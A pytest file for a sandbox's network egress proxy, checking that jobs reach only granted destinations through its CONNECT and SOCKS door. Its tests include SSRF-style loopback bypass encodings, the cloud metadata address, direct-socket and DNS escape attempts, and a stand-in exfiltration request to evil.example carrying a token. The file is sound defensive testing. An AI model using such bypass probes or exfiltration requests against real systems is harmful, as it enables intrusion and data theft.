"""Jobs with net grants on a real node: ordinary programs work, and nothing but the granted destination is reached."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.net.fleet import Net, netted, python
from tests.net.support import SocketServer, served, web
from tests.support import scratch
from tests.support.wait import wait_until

TOOL_MISSING = "this host has no {}"


@pytest.fixture(scope="module")
def files() -> Iterator[tuple[Path, int]]:
    """A folder that is served on loopback, and the port."""
    with scratch.folder(mode=0o755) as folder, web(folder) as port:
        yield folder, port


@pytest.fixture(scope="module")
def echo() -> Iterator[SocketServer]:
    """A server that sends back what it gets."""
    with served() as server:
        yield server


@pytest.fixture(scope="module")
def net(files: tuple[Path, int], echo: SocketServer, node_tag: str) -> Iterator[Net]:
    """A node whose policy names both servers literally, and any public destination."""
    named = [f"127.0.0.1:{files[1]}", f"127.0.0.1:{echo.port}", f"localhost:{echo.port}", "*"]
    with netted(named, tag=node_tag) as net:
        # What is opened on first use belongs to the module, not to its first test.
        net.run(["true"], []).job.status()
        yield net


def need(tool: str) -> None:
    """Skip where the host has no such program."""
    if not any(os.access(f"{place}/{tool}", os.X_OK) for place in ("/usr/bin", "/bin", "/usr/local/bin")):
        pytest.skip(TOOL_MISSING.format(tool))


def test_curl_through_every_kind_of_proxy(net: Net, files: tuple[Path, int]) -> None:
    """curl as it is, through CONNECT, and through SOCKS5 by address and by name."""
    need("curl")
    folder, port = files
    (folder / "hello.txt").write_text("hello from outside")
    there = f"http://127.0.0.1:{port}/hello.txt"
    lines = [f"curl -sS {way} {there} && echo" for way in ("", "-p", "--socks5 127.0.0.1:3128")]
    lines.append(f"curl -sS --socks5-hostname 127.0.0.1:3128 {there}")
    seen = net.run(["sh", "-ec", "; ".join(lines)], [f"127.0.0.1:{port}"])
    assert seen.state == "finished", seen.output
    assert seen.output.count("hello from outside") == 4


def test_python_s_own_client(net: Net, files: tuple[Path, int]) -> None:
    """urllib finds the proxy in the environment."""
    folder, port = files
    (folder / "data.bin").write_bytes(b"z" * 3_000_000)
    code = f"import urllib.request as u; print(len(u.urlopen('http://127.0.0.1:{port}/data.bin').read()))"
    seen = net.run(python(code), [f"127.0.0.1:{port}"])
    assert (seen.state, seen.output.strip()) == ("finished", "3000000")


def test_git_clones_over_http(net: Net, files: tuple[Path, int]) -> None:
    """A repository on a web server is cloned."""
    need("git")
    folder, port = files
    source = folder / "source"
    env = {"PATH": os.defpath, "HOME": str(folder), "GIT_CONFIG_NOSYSTEM": "1"}
    mail = ("-c", "user.name=t", "-c", "user.email=t@t.invalid", "-c", "init.defaultBranch=main")
    subprocess.run(["git", *mail, "init", "-q", str(source)], check=True, env=env)
    (source / "read.me").write_text("cloned")
    for words in (["add", "."], ["commit", "-qm", "one"], ["update-server-info"]):
        subprocess.run(["git", *mail, *words], check=True, env=env, cwd=source)
    command = f"git clone -q http://127.0.0.1:{port}/source/.git here && cat here/read.me"
    seen = net.run(["sh", "-ec", command], [f"127.0.0.1:{port}"])
    assert (seen.state, seen.output.strip()) == ("finished", "cloned"), seen


def test_pip_installs_from_an_index(net: Net, files: tuple[Path, int]) -> None:
    """pip finds a package in an index on a web server and installs it."""
    if subprocess.run([sys.executable, "-I", "-m", "pip", "--version"], capture_output=True, check=False).returncode:
        pytest.skip(TOOL_MISSING.format("pip in its Python"))
    folder, port = files
    place = folder / "simple" / "demo-wheel"
    place.mkdir(parents=True)
    name = "demo_wheel-1.0-py3-none-any.whl"
    with zipfile.ZipFile(place / name, "w") as wheel:
        wheel.writestr("demo_wheel.py", "WORD = 'installed through the door'\n")
        meta = "demo_wheel-1.0.dist-info"
        wheel.writestr(f"{meta}/METADATA", "Metadata-Version: 2.1\nName: demo-wheel\nVersion: 1.0\n")
        wheel.writestr(f"{meta}/WHEEL", "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{meta}/RECORD", "")
    (place / "index.html").write_text(f'<!DOCTYPE html><html><body><a href="{name}">{name}</a></body></html>')
    pip = f"{sys.executable} -I -m pip install -q --no-cache-dir --disable-pip-version-check --target /work/site"
    pip += f" --index-url http://127.0.0.1:{port}/simple/ --trusted-host 127.0.0.1 demo-wheel"
    look = f"PYTHONPATH=/work/site {sys.executable} -c 'import demo_wheel; print(demo_wheel.WORD)'"
    seen = net.run(["sh", "-ec", f"{pip} && {look}"], [f"127.0.0.1:{port}"])
    assert seen.state == "finished", seen.output
    assert seen.output.endswith("installed through the door\n"), seen.output


def test_npm_installs_from_a_registry(net: Net, files: tuple[Path, int]) -> None:
    """npm finds a package in a registry on a web server and installs it."""
    need("npm")
    folder, port = files
    (folder / "package").mkdir()
    (folder / "package/package.json").write_text('{"name": "demo-pack", "version": "1.0.0", "main": "index.js"}')
    (folder / "package/index.js").write_text("module.exports = 'packed through the door'\n")
    (folder / "tarballs").mkdir()
    with tarfile.open(folder / "tarballs/demo-pack-1.0.0.tgz", "w:gz") as archive:
        archive.add(folder / "package", "package")
    version = {
        "name": "demo-pack",
        "version": "1.0.0",
        "main": "index.js",
        "dist": {"tarball": f"http://127.0.0.1:{port}/tarballs/demo-pack-1.0.0.tgz"},
    }
    whole = {"name": "demo-pack", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
    (folder / "demo-pack").write_text(json.dumps(whole))
    npm = f"npm install --no-audit --no-fund --loglevel=error --registry http://127.0.0.1:{port}/ demo-pack"
    seen = net.run(["sh", "-ec", f"{npm} && node -p \"require('demo-pack')\""], [f"127.0.0.1:{port}"])
    assert seen.state == "finished", seen.output
    assert seen.output.endswith("packed through the door\n"), seen.output


ELSEWHERE = r"""
import socket, sys
port, other = int(sys.argv[1]), int(sys.argv[2])
def through(text):
    with socket.create_connection(("127.0.0.1", 3128), 5) as end:
        end.sendall(f"CONNECT {text} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        return end.recv(100).split(b" ")[1].decode()
print("granted", through(f"127.0.0.1:{port}"))
for name in ("127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "127.1", "2130706433"):
    print("other", name, through(f"{name}:{other}"))
for name in ("0.0.0.0", "localhost", "127.0.0.2", "169.254.169.254", "example.com"):
    print("port", name, through(f"{name}:{port}"))
for kind, address in ((socket.SOCK_STREAM, ("127.0.0.1", port)), (socket.SOCK_STREAM, ("1.1.1.1", 80))):
    with socket.socket(socket.AF_INET, kind) as end:
        end.settimeout(3)
        print("direct", end.connect_ex(address) != 0)
for server in ("127.0.0.1", "1.1.1.1"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.settimeout(1)
        try:
            end.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1", (server, 53))
            end.recv(512); print("dns ANSWERED")
        except OSError:
            print("dns none")
try:
    socket.getaddrinfo("example.com", 80); print("name FOUND")
except OSError:
    print("name none")
print(sorted(name for _, name in socket.if_nameindex()))
"""


def test_a_job_reaches_its_grant_and_nothing_else(net: Net, files: tuple[Path, int], echo: SocketServer) -> None:
    """Through its door: the grant alone. Directly: nothing, no DNS, no interface but lo."""
    _, port = files
    seen = net.run([*python(ELSEWHERE), str(port), str(echo.port)], [f"127.0.0.1:{port}"])
    assert seen.state == "finished", seen.output
    lines = seen.output.splitlines()
    assert lines[0] == "granted 200"
    assert {line.split()[-1] for line in lines if line.startswith(("other", "port"))} <= {"403", "400"}, seen.output
    assert {line for line in lines if line.startswith(("direct", "dns", "name"))} == {
        "direct True",
        "dns none",
        "name none",
    }
    assert lines[-1] == "['lo']"


def test_attack_12_loopback_is_refused_unless_policy_spells_it_out(net: Net, echo: SocketServer) -> None:
    """`*` in policy opens no address of this host: by every name of it the job is refused before it runs."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        own = socket.gethostbyname(socket.gethostname())
        hosts = ["127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "127.0.0.2"]  # noqa: S104 - asked for
        for host in {*hosts, own, "169.254.169.254", "[64:ff9b::7f00:1]"}:
            seen = net.run(["true"], [f"{host}:{port}"])
            view = seen.job.status()
            assert (seen.state, view.reason) == ("refused", "policy"), (host, view)
            assert "policy must name that address and port" in (view.detail or ""), (host, view)
    seen = net.run(python("import urllib.request"), [f"localhost:{echo.port}"])
    assert seen.state == "finished", seen.output


def test_what_is_no_destination_is_refused(net: Net) -> None:
    """Numbers that resolvers take for addresses are refused with the way to write them."""
    for host in ("2130706433", "0x7f.1", "127.1"):
        seen = net.run(["true"], [f"{host}:80"])
        view = seen.job.status()
        assert (seen.state, view.reason) == ("refused", "policy"), (host, view)
        assert "four decimal numbers" in (view.detail or "")


def test_a_denial_becomes_an_event(net: Net, files: tuple[Path, int]) -> None:
    """What a job asked for in vain is told with host and port, once."""
    code = "import urllib.request as u\nfor _ in range(3):\n  try: u.urlopen('http://evil.example/secret?token=1')\n"
    code += "  except Exception as error: print(error)"
    seen = net.run(python(code), [f"127.0.0.1:{files[1]}"])
    assert seen.output.count("403") == 3, seen.output
    told = [event for event in seen.job.events() if event.type == "net.denied"]
    assert [(event.detail["host"], event.detail["port"]) for event in told] == [("evil.example", 80)]
    assert "secret" not in str(told)


def test_a_kill_ends_the_connections(net: Net, echo: SocketServer) -> None:
    """When a job is killed its tunnel is closed at once, and the egress process holds nothing of it."""
    before = net.egress.held()
    code = f"""
import socket, time
end = socket.create_connection(("127.0.0.1", 3128))
end.sendall(b"CONNECT 127.0.0.1:{echo.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
end.recv(100); end.sendall(b"up"); print(end.recv(10).decode(), flush=True); time.sleep(60)
"""
    job = net.start(python(code), [f"127.0.0.1:{echo.port}"])
    net.rig.wait_output(job, "up")
    assert net.egress.held() > before
    assert job.kill().survivors == 0
    wait_until(lambda: net.egress.held() <= before, "the egress process to give all back")
    assert echo.ends[-1].fileno() == -1 or echo.ends[-1].recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b""


def test_attack_38_net_grants_get_a_mould_of_their_own(net: Net, files: tuple[Path, int]) -> None:
    """The job before left connections behind (TIME_WAIT); the next one sees none, with the same grants or without."""
    _, port = files
    grant = [f"127.0.0.1:{port}"]
    look = "import urllib.request as u\nprint(open('/proc/net/tcp').read().count('\\n'), end=' ')\n"
    fetch = f"u.urlopen('http://127.0.0.1:{port}/').read()"
    seen = [net.run(python(look + fetch), grant) for _ in range(2)] + [net.run(python(look), [])]
    assert [each.state for each in seen] == ["finished"] * 3, [each.output for each in seen]
    # A head line and the door's own listener; without grants not even that.
    assert [each.output.split()[0] for each in seen] == ["2", "2", "1"]


def test_many_jobs_leave_nothing_in_the_egress_process(net: Net, echo: SocketServer) -> None:
    """24 jobs with a tunnel each, every third one killed: each ends as it must, and the egress process is as before."""
    before = net.egress.held()
    code = f"""
import socket, sys, time
end = socket.create_connection(("127.0.0.1", 3128))
end.sendall(b"CONNECT 127.0.0.1:{echo.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
print(end.recv(100)[9:12].decode(), flush=True)
time.sleep(float(sys.argv[1]))
"""
    jobs = [net.start([*python(code), "0" if number % 3 else "60"], [f"127.0.0.1:{echo.port}"]) for number in range(24)]
    for job in jobs[::3]:
        net.rig.wait_output(job, "200", timeout_s=50)
        assert job.kill().survivors == 0
    for number, job in enumerate(jobs):
        net.rig.wait_state(job, "finished" if number % 3 else "killed", timeout_s=50)
    wait_until(lambda: net.egress.held() <= before, "the egress process to give all back")
